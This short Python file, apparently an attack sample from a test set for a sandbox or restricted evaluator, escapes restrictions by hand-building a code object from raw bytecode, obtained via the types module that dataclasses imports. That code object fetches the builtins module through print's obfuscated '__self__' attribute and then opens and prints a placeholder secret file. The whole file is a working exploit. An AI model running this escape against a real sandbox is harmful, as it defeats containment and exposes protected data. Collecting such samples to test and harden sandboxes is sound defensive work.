# attack: bytes of the interpreter's own machine code: a code object made by hand from the type that dataclasses imported
# family: eval
import dataclasses
def of(module):
    return module.types
types = of(dataclasses)
# LOAD_CONST 0; LOAD_ATTR 0 (with its four caches); RETURN_VALUE
code = types.CodeType(0, 0, 0, 0, 1, 0, bytes([151, 0, 100, 0, 106, 0, 0, 0, 0, 0, 0, 0, 0, 0, 83, 0]), (print,), ("__se" + "lf__",), (), "", "f", "f", 1, b"", b"", (), ())
b = types.FunctionType(code, {})()
print("REACHED", b)
print(b.open("$SECRET_FILE").read())
